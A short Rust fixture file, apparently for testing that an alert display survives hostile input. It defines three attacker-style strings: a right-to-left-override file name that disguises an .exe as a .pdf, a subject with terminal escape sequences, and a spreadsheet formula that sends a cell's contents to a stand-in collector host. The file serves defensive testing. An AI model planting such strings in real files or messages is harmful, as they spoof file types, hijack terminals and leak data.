//! Text as an attacker would write it, planted in a few noise alerts: whatever shows the tenant's text must survive it.

/// A file name that turns itself around: shown raw, it seems to end in `.pdf`.
pub(super) const TURNED_FILE_NAME: &str = "invoice_\u{202e}fdp.exe";

/// A subject that would clear a terminal and set its title.
pub(super) const ESCAPING_SUBJECT: &str = "Your parcel\u{1b}[2J\u{1b}]0;owned\u{7} is waiting";

/// A subject that a spreadsheet would run.
pub(super) const FORMULA_SUBJECT: &str = "=HYPERLINK(\"https://collect.badnews.example/?\"&A1,\"price list\")";
